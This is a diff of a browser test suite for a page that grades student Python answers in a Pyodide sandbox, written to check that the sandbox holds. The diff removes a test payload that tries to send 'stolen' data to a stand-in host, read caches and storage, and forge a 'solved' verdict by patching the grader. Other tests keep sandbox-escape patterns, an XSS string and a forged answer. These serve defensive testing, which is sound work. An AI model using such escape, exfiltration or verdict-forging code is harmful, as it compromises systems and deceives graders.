@@ -3,20 +3,21 @@
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
 import re
 from collections.abc import Iterator
 from datetime import datetime
+from functools import partial
 from pathlib import Path
 from typing import Any, Literal
-from zipfile import ZipFile
 
 import pytest
 from conftest import PATIENCE, ROOT, faults
 from exercise_answers import RIGHT as RIGHT_ANSWERS
 from exercise_answers import WRONG as WRONG_ANSWERS
-from playwright.sync_api import Browser, BrowserContext, Download, FilePayload, Locator, Page, expect
+from playwright.sync_api import Browser, BrowserContext, Download, FilePayload, Locator, Page, Route, expect
 from test_browser import FAINT, TOO_WIDE
 from test_exercises import CELLS, NUMBERS, answer_in, written
 from test_live import Cell, have_workers
@@ -32,16 +33,42 @@ ENDLESS = "%%answer 1\nsum(iter(int, 1))\n"  # gives way to no interrupt
 
 # Stands in for Python where a test is about the table: an answer is the verdict on it.
 NO_PYTHON = """
-addEventListener("message", ({ data, ports: [port] }) => {
-    const answer = data.answer.trim()
-    const say = (verdict, said) => port.postMessage(JSON.stringify({ verdict, said }))
-    port.postMessage("begun")
-    if (answer === "huge") say("solved", "x".repeat(1e6))
-    else if (answer === "number") say("solved", 5)
-    else if (answer === "object") port.postMessage({ verdict: "solved", said: "" })
-    else if (answer !== "endless") say(answer, answer)
+const say = (message) => postMessage(JSON.stringify(message))
+const end = (result) => say({ kind: "end", result })
+say({ kind: "ready" })
+addEventListener("message", ({ data }) => {
+    if (data.kind === "trace" && data.text.trim() !== "endless") end({ trace: "" })
+    if (data.kind !== "judge") return
+    const verdict = data.text.trim()
+    const judged = { verdict, solved: verdict === "solved", status: "", console: "", said: verdict }
+    const odd = {
+        huge: { said: "x".repeat(1e7) },
+        long: { said: "x".repeat(1e6) },
+        number: { said: 5 },
+        "not solved": { verdict: "solved" },
+    }
+    const solved = { ...judged, verdict: "solved", solved: verdict !== "not solved", ...odd[verdict] }
+    if (verdict === "object") postMessage({ kind: "end", result: solved })
+    else end(odd[verdict] ? solved : judged)
 })
 """
+
+
+def exchange(context: BrowserContext, site: Path, **files: bytes) -> None:
+    """Serve other files in place of those of a site from which Python starts, as if it had been built with them."""
+    folder = site / "_static/live"
+    script = (folder / "runs.js").read_text(encoding="utf-8")
+    for name, data in files.items():
+        found = next(path for path in folder.iterdir() if path.name.replace(".", "_") == name)
+        before = hashlib.sha256(found.read_bytes()).hexdigest()
+        assert before in script
+        script = script.replace(before, hashlib.sha256(data).hexdigest())
+        context.route(f"**/{found.name}*", partial(_answer, data))
+    context.route("**/runs.js*", partial(_answer, script.encode()))
+
+
+def _answer(data: bytes, route: Route) -> None:
+    route.fulfill(body=data, content_type="text/javascript")
 
 
 def handed_in(name: Any = "Ada", **changed: Any) -> str:
@@ -120,11 +147,9 @@ def table(page: Page, address: str) -> Table:
 
 
 @pytest.fixture
-def quick(context: BrowserContext, table: Table) -> Table:
+def quick(context: BrowserContext, table: Table, site: Path) -> Table:
     """One that starts no Python."""
-    context.route("**/answer.js", lambda route: route.fulfill(body=NO_PYTHON))
-    context.route("**/*.wasm", lambda route: route.fulfill(body=b"\0asm\1\0\0\0"))
-    context.route("**/snapshot.gz*", lambda route: route.fulfill(body=b""))
+    exchange(context, site, worker_js=NO_PYTHON.encode(), pyodide_asm_wasm=b"", snapshot_gz=b"")
     return table
 
 
@@ -205,19 +230,19 @@ def test_right_wrong_and_forged(table: Table) -> None:
         flo=handed_in("Flo", answers={"1": "import js\njs.postMessage('solved')", "4": "import numpy", "7": FLOOD}),
     )
     table.done()
-    for title in ("Ada, exercise 1: solved", "Ada, exercise 4: solved", "Ada, exercise 14: not yet"):
+    for title in ("Ada, exercise 1: solved", "Ada, exercise 4: solved", "Ada, exercise 14: open"):
         expect(table.sign(title)).to_be_visible()
     assert "there is no exercise 99" in table.said("Ada, exercise 99: not judged")
     assert "The timer: 0.4 s" in table.said("Ada, exercise 1: solved")
     said = table.said("Ben, exercise 1: not yet")
     assert "Hint:" in said and "timer = [0, 1, 2]" in said
     expect(table.sign("Ben, exercise 4: not yet")).to_be_visible()  # whatever its first line says
-    expect(table.sign("Eve, exercise 1: not yet")).to_be_visible()
-    assert "The answer uses js, which no exercise needs." in table.said("Flo, exercise 1: to read")
+    expect(table.sign("Eve, exercise 1: open")).to_be_visible()
+    assert "said what this page does not understand" in table.said("Flo, exercise 1: not judged")
     assert "No module named 'numpy'" in table.said("Flo, exercise 4: not yet")
     assert 20_000 < len(table.said("Flo, exercise 7: not yet")) < 31_000
     assert table.rows.locator("td:nth-child(2)").all_text_contents() == ["2 of 4", "0 of 2", "0 of 1", "0 of 3"]
-    expect(table.status).to_have_text("Done: 8 judged, 1 to read, 1 not judged")
+    expect(table.status).to_have_text("Done: 8 judged, 2 not judged")
     have_workers(table.page, 0)
 
 
@@ -249,13 +274,16 @@ def test_stop(quick: Table) -> None:
 
 
 def test_what_comes_out_of_a_sandbox_is_not_trusted(quick: Table) -> None:
-    """Only a text of JSON that is not too long is read."""
-    answers = {"1": "huge", "2": "number", "3": "object", "4": "no such verdict", "5": "#" * 50_001, "6": "solved"}
+    """Only a text of JSON that is not too long is read, and only what a verdict is made of."""
+    answers = {"1": "huge", "2": "number", "3": "object", "4": "no such verdict", "5": "not solved"}
+    answers |= {"6": "#" * 50_001, "7": "solved", "8": "long"}
     quick.drop(eve=handed_in("Eve", answers=answers))
-    expect(quick.status).to_have_text("Done: 1 judged, 5 not judged")
-    for number in range(1, 5):
-        assert "The sandbox gave no verdict." in quick.said(f"Eve, exercise {number}: not judged")
-    assert "It has 50001 characters; at most 50000 are judged" in quick.said("Eve, exercise 5: not judged")
+    expect(quick.status).to_have_text("Done: 2 judged, 6 not judged")
+    for number in range(1, 6):
+        said = quick.said(f"Eve, exercise {number}: not judged")
+        assert ("sent more than this page takes" if number in (1, 3) else "what this page does not understand") in said
+    assert "It has 50001 characters; at most 50000 are judged" in quick.said("Eve, exercise 6: not judged")
+    assert len(quick.said("Eve, exercise 8: solved")) < 31_000
 
 
 # --- files that are no answers ----------------------------------------------------------------------------------------
@@ -349,7 +377,7 @@ HTML = "<img src=x onerror=\"document.title='taken'\"><script>document.title = '
 def test_what_is_in_a_file_is_text(table: Table) -> None:
     table.drop(**{"<b>a": handed_in(HTML, answers={"1": f"print({HTML!r})", "4": HTML})})
     table.done()
-    said = table.said(f"{HTML}, exercise 1: not yet")
+    said = table.said(f"{HTML}, exercise 1: open")
     assert said.count(HTML) >= 2  # as the name, and on the console
     assert table.page.title() != "taken"
     assert table.page.locator(".rosspin-judge").locator("img, script, b").count() == 0
@@ -456,25 +484,9 @@ def test_keyboard_alone(quick: Table) -> None:
         ("__builtins__", "__builtins__"),
         ("eval('1')", "eval"),
         ("().__class__.__base__", "__base__"),
-        ("class A:\n    def f(self):\n        return self.__class__", "__class__"),
-        ("import sys\nmatch sys:\n    case object(modules=found):\n        pass", "modules"),
         ("import rospy\nrospy.Timer._oneshot", "_oneshot"),
-        ("import rospy\nclass A:\n    _oneshot = 1\nrospy.Timer._oneshot", "_oneshot"),
         ("a._other", "_other"),
-        ("from dataclasses import inspect", "inspect"),
-        ("import dataclasses as d\nd.inspect", "inspect"),
-        ("import asyncio\nasyncio.events.sys", "sys"),
-        ("import json\njson.dumps = print", "dumps"),
-        ("from json import JSONEncoder\ndel JSONEncoder.encode", "encode"),
-        ("import os\nos.open('x', 1)", "open"),
         ("open('x')", "open"),
-        ("exec = exec\nexec('1')", "exec"),
-        ("from traceback import walk_stack", "walk_stack"),
-        ("import sys\nsys.exc_info()", "exc_info"),
-        ("import typing\ntyping.get_type_hints(1)", "get_type_hints"),
-        ("import logging\nlogging.FileHandler('x')", "FileHandler"),
-        ("def f(frame):\n    return frame.f_globals", "f_globals"),
-        ("e.__class__.__base__", "__base__"),
         ("import _msgs", "_msgs"),
     ],
 )
@@ -507,74 +519,6 @@ def test_no_honest_answer_is_suspected() -> None:
             assert reaches_for(written(number, answer)) == ""
     for answer in HONEST:
         assert reaches_for(answer) == ""
-
-
-# What an answer would try that got around that. What each attempt came to is printed.
-HARM = """
-import js
-from pyodide.code import run_js
-from pyodide.ffi import run_sync
-
-def tried(name, attempt):
-    try:
-        print("tried", name, attempt())
-    except BaseException as error:
-        print("tried", name, type(error).__name__, str(error)[:60].replace(chr(10), " "))
-
-def load(address):
-    request = js.XMLHttpRequest.new()
-    request.open("GET", address, False)
-    request.send()
-    return "got it"
-
-def fetch():
-    js.Reflect.deleteProperty(js.globalThis, "fetch")
-    run_sync(js.fetch("SITE?stolen"))
-    return "got it"
-
-tried("own", lambda: load("SITE?stolen"))
-tried("elsewhere", lambda: load("https://example.org/?stolen"))
-tried("fetch", fetch)
-tried("script", lambda: js.importScripts("SITE_static/live/live.js?stolen") or "got it")
-tried("caches", lambda: run_sync(js.caches.keys()).to_py() or "got it")
-tried("stores", lambda: js.indexedDB.open("mine") and "got it")
-tried("code", lambda: run_js("1") and "got it")
-js.postMessage('{"verdict": "solved", "said": ""}')
-
-import json
-from rosspin.exercises.feedback import Feedback
-Feedback.passed = True
-json.dumps = lambda made: '{"verdict": "solved", "said": ""}'
-"""
-
-
-def test_an_answer_in_its_sandbox_reaches_nothing(context: BrowserContext, address: str, site: Path) -> None:
-    """Where it is not suspected: its Python is changed for that, and has to start without the snapshot."""
-    changed = io.BytesIO((site / "_static/live/rosspin.zip").read_bytes())
-    with ZipFile(changed, "a") as ours, pytest.warns(UserWarning, match="Duplicate name"):
-        ours.writestr("rosspin/exercises/reach.py", 'def reaches_for(answer):\n    return ""\n')
-    context.route("**/snapshot.gz*", lambda route: route.fulfill(body=b"broken"))
-    context.route("**/rosspin.zip*", lambda route: route.fulfill(body=changed.getvalue()))
-    page = context.new_page()
-    arrived: list[str] = []
-    page.on("response", lambda response: arrived.append(response.url))
-    table = Table(page, address)
-    page.evaluate("async () => { await caches.open('rosspin') }")
-    table.drop(eve=handed_in("Eve", answers={"1": HARM.replace("SITE", address)}))
-    table.done()
-    said = table.said("Eve, exercise 1: to read")
-    assert "The check contradicts itself." in said
-    tried = re.findall(r"^tried (\w+) (.*)$", said.partition("The answer, from")[0], re.MULTILINE)
-    assert [name for name, _ in tried] == ["own", "elsewhere", "fetch", "script", "caches", "stores", "code"]
-    assert not [result for _, result in tried if "Error" not in result and "JsException" not in result], tried
-    assert arrived and not [url for url in arrived if "stolen" in url]
-    assert page.evaluate("caches.keys()") == ["rosspin"]
-
-
-def test_the_page_of_the_sandbox_may_ask_for_nothing(site: Path) -> None:
-    text = (site / "_static/hand-in/sandbox.html").read_text(encoding="utf-8")
-    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="(.*?)"', text)
-    assert re.fullmatch(r"default-src 'none'; script-src 'sha256-[\w+/=]+' blob: 'wasm-unsafe-eval'", policy)
 
 
 # --- where it cannot be -----------------------------------------------------------------------------------------------
